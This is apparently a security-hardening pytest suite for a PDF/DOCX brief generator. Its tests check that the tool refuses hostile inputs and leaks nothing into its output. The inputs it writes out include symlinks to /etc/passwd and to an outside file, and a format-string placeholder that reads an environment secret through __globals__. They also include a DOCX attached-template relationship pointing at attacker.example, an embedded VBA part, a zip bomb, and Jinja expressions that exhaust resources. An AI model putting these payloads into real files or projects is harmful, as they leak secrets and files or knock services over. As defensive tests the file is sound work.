"""Hardening (issue #12): nothing from outside the project reaches a document.

Each case starts from a project built once (English PDF and DOCX), makes one
attack or careless edit, and asserts the exact location of the error, the exit
code, that no payload appears in any output file (PDF text, DOCX XML, the
state file) or message, and that the artifacts built before stay byte-identical.
"""

from __future__ import annotations

import errno
import os
import shutil
import signal
import subprocess
import sys
import tempfile
import time
import zipfile
from pathlib import Path

import pytest
from conftest import edit, line_of, make_project, run, snapshot

#: What an outside file holds: it must never be seen in an artifact or a message.
PAYLOAD = "PAYLOAD-7f3a9c-outside-file"
SECRET = "SECRET-b41d2e-ci-token"

pytestmark = pytest.mark.slow


@pytest.fixture(scope="module")
def built(tmp_path_factory) -> Path:
    """A small project built once: the general audience, English, PDF and DOCX."""
    folder = make_project(tmp_path_factory.mktemp("hardening") / "project")
    edit(
        folder / "templates" / "audiences" / "general" / "audience.yaml",
        "languages: [en, zh-Hant, zh-Hans, bilingual]",
        "languages: [en]",
    )
    result = run(folder, "build", "--out", "build")
    assert result.returncode == 0, result.stderr
    return folder


@pytest.fixture
def project(built: Path, tmp_path: Path, monkeypatch) -> Path:
    """A copy of the built project (with its build), and an outside file holding PAYLOAD."""
    folder = tmp_path / "project"
    shutil.copytree(built, folder, symlinks=True)
    (tmp_path / "outside.txt").write_text(f"{PAYLOAD}\n", encoding="utf-8")
    monkeypatch.setenv("SECRET", SECRET)
    return folder


def output_text(out: Path) -> str:
    """Every output file as text: PDFs through pdftotext, DOCX as their XML parts."""
    texts = []
    for path in sorted(out.rglob("*")):
        if not path.is_file():
            continue
        if path.suffix == ".pdf":
            texts.append(
                subprocess.run(
                    ["pdftotext", str(path), "-"], capture_output=True, text=True, check=True
                ).stdout
            )
            texts.append(path.read_bytes().decode("latin-1"))
        elif path.suffix == ".docx":
            with zipfile.ZipFile(path) as archive:
                texts += [
                    archive.read(name).decode("utf-8", "replace") for name in archive.namelist()
                ]
        else:
            texts.append(path.read_bytes().decode("utf-8", "replace"))
    return "\n".join(texts)


def refused(project: Path, *args: str, where: str, message: str, code: int = 1) -> str:
    """Build (or check) `project`; assert the located error, the exit code, no payload
    anywhere and the earlier artifacts unchanged. Returns the error output."""
    before = snapshot(project / "build")
    result = run(project, *(args or ("build", "--out", "build")))
    output = result.stdout + result.stderr
    assert result.returncode == code, output
    assert f"{where}: error: " in output and message in output, output
    for payload in (PAYLOAD, SECRET, "root:x:0:0"):
        assert payload not in output
        assert payload not in output_text(project / "build")
    assert snapshot(project / "build") == before
    assert not list((project / "build").rglob("*.part"))
    return output


def both(project: Path, where: str, message: str) -> None:
    """`check` and `build` both refuse, at the same place."""
    refused(project, "check", where=where, message=message)
    refused(project, "build", "--out", "build", where=where, message=message)


GENERAL = Path("templates/audiences/general")


def override(project: Path, body: str) -> None:
    """An audience template overriding the summary block with `body`."""
    (project / GENERAL / "brief.html.j2").write_text(
        '{% extends "base/brief.html.j2" %}\n{% block summary %}' + body + "{% endblock %}\n",
        encoding="utf-8",
    )


# -- 1. containment by real path ----------------------------------------------------


@pytest.mark.parametrize("target", ["outside", "/etc/passwd"])
def test_an_included_template_linking_outside_is_refused(project, target):
    link = project / GENERAL / "leak.html.j2"
    link.symlink_to(project.parent / "outside.txt" if target == "outside" else target)
    override(project, '{% include "leak.html.j2" %}')
    both(project, f"{GENERAL}/leak.html.j2:1:1", "lies outside templates/")


@pytest.mark.parametrize("name", ["brief.html.j2", "audience.css"])
def test_an_audience_file_linking_outside_is_refused(project, name):
    (project / GENERAL / name).symlink_to(project.parent / "outside.txt")
    both(project, f"{GENERAL}/{name}:1:1", "lies outside templates/")


@pytest.mark.parametrize("logo", ["/etc/passwd", "../../../../outside.txt", "link.png"])
def test_a_logo_outside_the_audience_folder_is_refused(project, logo):
    (project / GENERAL / "link.png").symlink_to(project.parent / "outside.txt")
    audience = project / GENERAL / "audience.yaml"
    with audience.open("a", encoding="utf-8") as handle:
        handle.write(f"theme:\n  logo: {logo}\n")
    line = line_of(audience, "logo:")
    both(project, f"{GENERAL}/audience.yaml:{line}:9", "lies outside")


def test_a_content_file_linking_outside_is_refused(project):
    (project / "content" / "linked.yaml").symlink_to(project.parent / "outside.txt")
    both(project, "content/linked.yaml:1:1", "lies outside content/")


def test_a_fifo_in_content_is_refused_without_hanging(project):
    os.mkfifo(project / "content" / "pipe.yaml")
    both(project, "content/pipe.yaml:1:1", "not a regular file")


def test_a_fifo_as_audience_css_is_refused_without_hanging(project):
    os.mkfifo(project / GENERAL / "audience.css")
    both(project, f"{GENERAL}/audience.css:1:1", "not a regular file")


def test_a_link_inside_the_project_is_read(project):
    (project / GENERAL / "extra.html.j2").write_text("<p>inside-ok</p>", encoding="utf-8")
    (project / GENERAL / "alias.html.j2").symlink_to("extra.html.j2")
    override(project, '{% include "alias.html.j2" %}')
    result = run(project, "build", "--out", "build", "--format", "pdf")
    assert result.returncode == 0, result.stderr
    assert "inside-ok" in output_text(project / "build" / "general")


# -- 2. the message catalogue is data ---------------------------------------------------


def test_a_catalogue_placeholder_with_attribute_access_is_refused(project):
    catalogue = project / "templates" / "base" / "messages.yaml"
    with catalogue.open("a", encoding="utf-8") as handle:
        handle.write('leak: {en: "{v.__init__.__globals__[os].environ[SECRET]}", zh-Hant: x}\n')
    override(project, '{{ t("leak", v=doc) }}')
    line = line_of(catalogue, "leak:")
    both(project, f"templates/base/messages.yaml:{line}:12", "is not a plain name")


@pytest.mark.parametrize("placeholder", ["{v[0]}", "{v!r}", "{v:>99}", "{}", "{0}"])
def test_catalogue_placeholders_must_be_plain_names(project, placeholder):
    catalogue = project / "templates" / "base" / "messages.yaml"
    with catalogue.open("a", encoding="utf-8") as handle:
        handle.write(f'odd: {{en: "a {placeholder} b", zh-Hant: x}}\n')
    line = line_of(catalogue, "odd:")
    refused(project, "check", where=f"templates/base/messages.yaml:{line}:11", message="plain")


def test_a_template_passing_an_object_to_a_message_is_refused(project):
    catalogue = project / "templates" / "base" / "messages.yaml"
    with catalogue.open("a", encoding="utf-8") as handle:
        handle.write('leak: {en: "x {v} y", zh-Hant: "{v}"}\n')
    override(project, '{{ t("leak", v=doc) }}')
    both(project, f"{GENERAL}/brief.html.j2:2:1", "not BriefView")


# -- 3. the reference document is sanitised -------------------------------------------

REFERENCE = GENERAL / "reference.docx"
EXTERNAL_TEMPLATE = (
    '<Relationship Id="rId99" Target="http://attacker.example/t.dotm" TargetMode="External" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
)


def rewrite_reference(project: Path, change) -> None:
    """The audience's own reference.docx: the base one with `change(name, data)` applied."""
    base = project / "templates" / "docx" / "reference.docx"
    with zipfile.ZipFile(base) as source, zipfile.ZipFile(project / REFERENCE, "w") as target:
        for info in source.infolist():
            data = change(info.filename, source.read(info))
            if data is not None:
                target.writestr(info, data)
        extra = change("(new)", b"")
        if extra:
            target.writestr(*extra, compress_type=zipfile.ZIP_DEFLATED)


def test_an_external_attached_template_is_refused(project):
    def change(name, data):
        if name == "word/settings.xml":
            return data.replace(b"<w:zoom", b'<w:attachedTemplate r:id="rId99"/><w:zoom', 1)
        if name == "(new)":
            rels = (
                '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships '
                'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                f"{EXTERNAL_TEMPLATE}</Relationships>"
            )
            return "word/_rels/settings.xml.rels", rels
        return data

    rewrite_reference(project, change)
    both(project, f"{REFERENCE}:1:1", "part word/_rels/settings.xml.rels (line 2)")
    assert "attacker.example" not in output_text(project / "build")


def test_a_reference_holding_a_huge_part_is_refused_before_unpacking(project):
    def change(name, data):
        return ("word/header1.xml", b"\0" * 50_000_000) if name == "(new)" else data

    rewrite_reference(project, change)
    both(project, f"{REFERENCE}:1:1", "part word/header1.xml unpacks")


def test_a_reference_keeps_only_the_parts_a_reference_needs(project):
    from briefgen.writers.docx.reference import sanitised_reference

    def change(name, data):
        return ("word/vbaProject.bin", PAYLOAD.encode()) if name == "(new)" else data

    rewrite_reference(project, change)
    with zipfile.ZipFile(sanitised_reference(project / REFERENCE)) as package:
        names = package.namelist()
    assert "word/vbaProject.bin" not in names
    assert {"word/styles.xml", "word/numbering.xml", "word/settings.xml"} <= set(names)
    result = run(project, "build", "--out", "build", "--format", "docx")
    assert result.returncode == 0, result.stderr
    assert PAYLOAD not in output_text(project / "build")


# -- 4. limits ------------------------------------------------------------------------


def png_header(width: int, height: int) -> bytes:
    """A PNG whose header claims `width` x `height` (no pixel data: never decoded)."""
    import struct
    import zlib

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IEND", b"")


def test_a_61_mb_yaml_is_refused_before_it_is_read(project):
    import time

    with (project / "content" / "huge.yaml").open("wb") as handle:
        handle.truncate(61_000_000)
    started = time.perf_counter()
    both(project, "content/huge.yaml:1:1", "61,000,000 bytes, more than the limit")
    assert time.perf_counter() - started < 30


def test_a_12000_square_logo_is_refused_without_decoding(project):
    (project / GENERAL / "big.png").write_bytes(png_header(12000, 12000))
    audience = project / GENERAL / "audience.yaml"
    with audience.open("a", encoding="utf-8") as handle:
        handle.write("theme:\n  logo: big.png\n")
    line = line_of(audience, "logo:")
    both(project, f"{GENERAL}/audience.yaml:{line}:9", "more than the limit of 25,000,000 pixels")


@pytest.mark.parametrize(
    "body",
    [
        "{{ 'x' * 10**9 }}",
        "{{ [1] * 10**8 }}",
        "{{ 2 ** 100000000 }}",
        "{% set ns = namespace(s='x') %}{% for i in range(40) %}{% set ns.s = ns.s ~ ns.s %}"
        "{% endfor %}{{ ns.s }}",
        "{{ 'x'|center(10**9) }}",
        "{{ '%999999999d' % 1 }}",
        "{{ range(99999)|join('x' * 99999) }}",
        "{{ 'x'.rjust(10**9) }}",
    ],
)
def test_a_template_expression_making_a_huge_value_is_refused(project, body):
    override(project, body)
    both(project, f"{GENERAL}/brief.html.j2:2:1", "more than the limit")


def test_a_nested_template_loop_stops_at_the_time_limit(project, monkeypatch):
    from briefgen.edition import sandbox

    monkeypatch.setattr(sandbox, "MAX_RENDER_SECONDS", 1)
    override(
        project,
        "{% for a in range(99999) %}{% for b in range(99999) %}{% endfor %}{% endfor %}",
    )
    both(project, f"{GENERAL}/brief.html.j2:2:1", "rendering took more than 1 s")


def test_template_recursion_is_a_located_error(project):
    override(project, "{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}")
    both(project, f"{GENERAL}/brief.html.j2:2:1", "recursion")


def brief_edit(project: Path, old: str, new: str) -> int:
    """Edit the mini brief; the line of `new`."""
    path = project / "content" / "mini.yaml"
    edit(path, old, new)
    return line_of(path, new.split("\n")[0][:40])


def test_too_many_citations_in_one_paragraph_are_refused(project):
    citations = " ".join(["[@hkma-fintech]"] * 1000)
    line = brief_edit(project, "It *builds* on", f"It {citations} *builds* on")
    both(project, f"content/mini.yaml:{line}:9", "citations in one text, more than the limit of 50")


def test_a_5000_character_word_is_refused(project):
    line = brief_edit(project, "It *builds* on", "It " + "w" * 5000 + " on")
    both(project, f"content/mini.yaml:{line}:9", "a word of 5,000 characters")


def test_a_dataset_too_large_to_chart_is_refused(project):
    categories = ", ".join(f"{{en: c{i}, zh-Hant: c{i}}}" for i in range(10_000))
    path = project / "content" / "mini.yaml"
    text = path.read_text(encoding="utf-8")
    start = text.index("    categories:\n")
    end = text.index("    keys:")
    text = text[:start] + f"    categories: [{categories}]\n" + text[end:]
    path.write_text(text, encoding="utf-8")
    line = line_of(path, "    categories:")
    both(project, f"content/mini.yaml:{line}:17", "10,000 categories, more than the limit")


@pytest.mark.parametrize(
    ("figure", "message"),
    [("1e25", "the figure 1e+25 is 1e+15 or more"), ("1.0e+30", "too large"), (".inf", "'inf'")],
)
def test_a_figure_too_large_to_format_is_located(project, figure, message):
    line = brief_edit(project, "values: [45, 35]", f"values: [45, {figure}]")
    both(project, f"content/mini.yaml:{line}:22", message)


# -- 5. signals -------------------------------------------------------------------------


def start_build(project: Path, *args: str) -> subprocess.Popen:
    command = [str(Path(sys.executable).parent / "briefgen"), "build", "--out", "build", *args]
    return subprocess.Popen(
        command,
        cwd=project,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env={**os.environ, "PYTHONWARNINGS": "ignore", "PYTHONPATH": os.pathsep.join(sys.path)},
        start_new_session=True,
    )


def wait_for(condition, seconds: float = 90) -> None:
    deadline = time.monotonic() + seconds
    while not condition():
        assert time.monotonic() < deadline, "timed out"
        time.sleep(0.01)


def children(pid: int) -> list[int]:
    found = []
    for task in Path(f"/proc/{pid}/task").glob("*"):
        text = (task / "children").read_text() if (task / "children").exists() else ""
        found += [int(child) for child in text.split()]
    return found


def alive(pid: int) -> bool:
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except (OSError, IndexError):
        return False
    return state != "Z"


@pytest.fixture
def multilingual(project: Path) -> Path:
    """The project with four editions to build, so that `--jobs 2` runs two workers."""
    edit(
        project / GENERAL / "audience.yaml", "languages: [en]", "languages: [en, zh-Hant, zh-Hans]"
    )
    return project


def test_sigterm_during_a_parallel_build_stops_it_cleanly(multilingual):
    project = multilingual
    before = snapshot(project / "build")
    process = start_build(project, "--jobs", "2", "--force")
    wait_for(lambda: list((project / "build").rglob("*.part")))
    workers = children(process.pid)
    process.send_signal(signal.SIGTERM)
    stdout, stderr = process.communicate(timeout=60)
    assert process.returncode == 143, stdout + stderr
    lines = [line for line in stderr.splitlines() if "Traceback" in line or "terminated" in line]
    assert lines == ["terminated; no partial file was left behind"], stderr
    assert not list((project / "build").rglob("*.part"))
    wait_for(lambda: not any(alive(pid) for pid in workers), 10)
    after = snapshot(project / "build")
    for name, data in before.items():  # each artifact is as before, or whole and new
        assert name in after and (
            after[name] == data or after[name][:4] in (b"%PDF", b"PK\x03\x04")
        )


def test_workers_die_with_a_killed_parent_and_their_files_are_swept(multilingual):
    project = multilingual
    process = start_build(project, "--jobs", "2", "--force")
    wait_for(lambda: len(children(process.pid)) >= 2 and list((project / "build").rglob("*.part")))
    workers = children(process.pid)
    process.kill()
    process.communicate(timeout=60)
    wait_for(lambda: not any(alive(pid) for pid in workers), 15)
    # a partial file of a live process (another build) is left alone
    with subprocess.Popen(["sleep", "60"]) as other:
        live = project / "build" / "general" / f".mini.en.pdf.{other.pid}.abcd.part"
        live.write_bytes(b"being written")
        old = time.time() - 3600
        os.utime(live, (old, old))
        result = run(project, "build", "--out", "build", "--lang", "en", "--format", "pdf")
        other.kill()
    assert result.returncode == 0, result.stderr
    assert [path.name for path in (project / "build").rglob("*.part")] == [live.name]


@pytest.mark.slow
def test_a_worker_whose_build_died_while_it_started_ends_at_once():
    """A SIGTERM during the pool's start can kill the build before a worker has set
    itself to die with it; the worker is then init's child and must still end."""
    code = (
        "import time\n"
        "from briefgen.engine.lifecycle import die_with_parent\n"
        "die_with_parent(2 ** 22 + 7)  # not this process's parent: as if it had died\n"
        "time.sleep(30)\n"
    )
    started = time.monotonic()
    result = subprocess.run([sys.executable, "-c", code], timeout=60, check=False)
    assert result.returncode == -signal.SIGTERM
    assert time.monotonic() - started < 20


# -- 6. crashes become located errors -------------------------------------------------


def test_a_merge_key_bringing_in_an_unknown_key_is_located(project):
    line = brief_edit(project, "  - id: road\n", "  - <<: {bogus: 1}\n    id: road\n")
    both(project, f"content/mini.yaml:{line}:10", "unknown key 'bogus'")


def test_cr_only_line_endings_with_an_escaped_control_character_are_located(project):
    path = project / "content" / "mini.yaml"
    edit(
        path,
        "subtitle: {en: The HKMA's strategy and the road to it,",
        'subtitle: {en: "The HKMA\\x07s strategy and the road to it",',
    )
    path.write_bytes(path.read_bytes().replace(b"\n", b"\r"))
    both(project, "content/mini.yaml:2:25", "the control character U+0007 (written \\x07)")


def test_a_windows_1252_audience_template_is_located(project):
    (project / GENERAL / "brief.html.j2").write_bytes(
        b'{% extends "base/brief.html.j2" %}\n{% block summary %}\x93quoted\x94{% endblock %}\n'
    )
    both(project, f"{GENERAL}/brief.html.j2:2:20", "not UTF-8 text (byte 0x93)")


@pytest.mark.parametrize(
    "state",
    [
        "[]",
        '{"artifacts": []}',
        '{"artifacts": {"general/mini.en.pdf": 5}}',
        '{"plans": {"k": [1]}}',
    ],
)
def test_a_state_of_the_wrong_shape_is_discarded_with_a_warning(project, state):
    (project / "build" / ".cache" / "state.json").write_text(state, encoding="utf-8")
    result = run(project, "build", "--out", "build", "--format", "pdf")
    assert result.returncode == 0, result.stderr
    assert "build/.cache/state.json: warning: the build state is not in the shape" in result.stderr
    assert "1 built" in result.stdout
    again = run(project, "build", "--out", "build", "--format", "pdf")
    assert again.returncode == 0 and "warning" not in again.stderr and "0 built" in again.stdout


@pytest.mark.parametrize(
    ("code", "words"), [(errno.EACCES, "Permission denied"), (errno.ENOSPC, "No space left")]
)
def test_an_unwritable_output_names_the_artifact_and_folder(project, monkeypatch, code, words):
    import briefgen.files

    real = tempfile.mkstemp

    def refuse(*args, **kwargs):
        folder = kwargs.get("dir")
        if folder is not None and Path(folder).name == "general":
            raise OSError(code, os.strerror(code), str(folder))
        return real(*args, **kwargs)

    monkeypatch.setattr(briefgen.files.tempfile, "mkstemp", refuse)
    before = snapshot(project / "build")
    result = run(project, "build", "--out", "build", "--force", "--format", "pdf")
    assert result.returncode == 1
    assert (
        f"build/general/mini.en.pdf: error: cannot write it ({words}" in result.stderr
        and "at build/general)" in result.stderr
    ), result.stderr
    assert "internal error" not in result.stderr
    assert snapshot(project / "build") == before


# -- 7. the chart cache is verified ------------------------------------------------------


@pytest.mark.parametrize("damage", ["truncate", "replace", "digest"])
def test_a_corrupt_chart_cache_entry_is_redrawn(project, damage):
    # the fixture's build predates the digests: build once so that the cache has them
    assert run(project, "build", "--out", "build", "--force").returncode == 0
    before = snapshot(project / "build")
    cache = project / "build" / ".cache" / "charts"
    svg = sorted(cache.glob("*.svg"))[0]
    png = svg.with_suffix(".png")
    good = svg.read_bytes(), png.read_bytes()
    if damage == "truncate":
        svg.write_bytes(svg.read_bytes()[:100])
    elif damage == "replace":
        png.write_bytes(b"\x89PNG\r\n\x1a\n" + b"\0" * 64)
    else:
        svg.with_suffix(".sha256").write_text("{}", encoding="utf-8")
    result = run(project, "build", "--out", "build", "--force")
    assert result.returncode == 0, result.stderr
    assert (svg.read_bytes(), png.read_bytes()) == good
    assert snapshot(project / "build") == before  # the same PDF and DOCX, charts and all


# -- 8. locations and messages ------------------------------------------------------------


def test_a_latin_1_audience_css_is_blamed_on_itself(project):
    (project / GENERAL / "audience.css").write_bytes(b"/* caf\xe9 */\nbody { color: red; }\n")
    both(project, f"{GENERAL}/audience.css:1:7", "not UTF-8 text (byte 0xe9)")


def test_a_markdown_image_in_content_is_located_at_its_yaml_line(project):
    line = brief_edit(project, "It *builds* on", "It ![chart](../outside.txt) builds on")
    both(project, f"content/mini.yaml:{line}:9", "a Markdown image")


def test_a_cyrillic_look_alike_in_a_source_id_is_pointed_out(project):
    line = brief_edit(project, "in 2016 [@hkma-fintech]", "in 2016 [@hkm\u0430-fintech]")
    both(project, f"content/mini.yaml:{line}:15", "CYRILLIC SMALL LETTER A (U+0430)")


def test_non_string_keys_are_located_where_they_stand(project):
    path = project / "content" / "mini.yaml"
    edit(path, "as_of: 2025-12-16\n", "as_of: 2025-12-16\n2024: x\n")
    edit(path, "    title: {en: The road so far", "    true: 1\n    title: {en: The road so far")
    output = refused(project, "check", where="content/mini.yaml:4:1", message="the key 2024")
    assert f"content/mini.yaml:{line_of(path, 'true: 1')}:5: error: the key True" in output


def test_a_fifo_a_stylesheet_refers_to_is_not_read(project):
    os.mkfifo(project / GENERAL / "pipe.png")
    (project / GENERAL / "audience.css").write_text(
        'body { background: url("audiences/general/pipe.png"); }\n', encoding="utf-8"
    )
    result = run(project, "build", "--out", "build", "--format", "pdf")  # returns: no hang
    assert result.returncode == 0, result.stderr
    assert "pipe.png:1:1: error: not a regular file" in result.stderr


@pytest.mark.parametrize(
    ("setting", "message"),
    [("accent: blue", "'blue' is not a colour"), ("body_font: 'Noto;Serif'", "is not a font name")],
)
def test_colours_and_fonts_are_not_called_ids(project, setting, message):
    audience = project / GENERAL / "audience.yaml"
    with audience.open("a", encoding="utf-8") as handle:
        handle.write(f"theme:\n  {setting}\n")
    line = line_of(audience, setting.split(":")[0] + ":")
    col = len(setting.split(":")[0]) + 5
    refused(project, "check", where=f"{GENERAL}/audience.yaml:{line}:{col}", message=message)


def test_an_audience_folder_linking_outside_is_refused(project):
    outside = project.parent / "evil"
    shutil.copytree(project / GENERAL, outside)
    (project / "templates" / "audiences" / "evil").symlink_to(outside)
    both(project, "templates/audiences/evil/audience.yaml:1:1", "lies outside")


@pytest.mark.parametrize("state", ["fifo", "deep"])
def test_a_hostile_state_file_is_discarded(project, state):
    path = project / "build" / ".cache" / "state.json"
    path.unlink()
    if state == "fifo":
        os.mkfifo(path)
    else:
        path.write_text("[" * 100_000, encoding="utf-8")
    result = run(project, "build", "--out", "build", "--format", "pdf")
    assert result.returncode == 0, result.stderr
    assert "1 built" in result.stdout
    assert path.is_file() and not path.is_symlink()
